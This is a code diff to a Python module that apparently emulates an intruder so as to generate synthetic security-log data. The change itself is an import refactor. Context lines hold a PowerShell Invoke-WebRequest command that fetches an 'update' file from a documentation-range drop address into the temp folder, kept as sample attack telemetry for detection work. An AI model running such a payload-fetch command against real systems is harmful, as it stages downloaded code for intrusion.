@@ -5,11 +5,14 @@ from __future__ import annotations
 import base64
 import json
 from datetime import datetime, timedelta
-from typing import Any, TypeAlias
+from typing import TYPE_CHECKING, Any
 
 from sentinel_emulator.workspace import Workspace, seeded_guid
 
 from .organisation import NETBIOS, Organisation, Person
+
+if TYPE_CHECKING:
+    from .plot import Rows
 
 SPRAY_ADDRESS = "203.0.113.77"
 DROP_ADDRESS = "203.0.113.200"
@@ -23,8 +26,6 @@ _DOWNLOADS = 120
 _AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
 # What the encoded command says is harmless: it names an address reserved for documentation.
 _SCRIPT = f"Invoke-WebRequest -Uri https://{DROP_ADDRESS}/update -OutFile $env:TEMP\\update.bin"
-
-Rows: TypeAlias = dict[str, list[dict[str, Any]]]
 
 
 class Intruder:
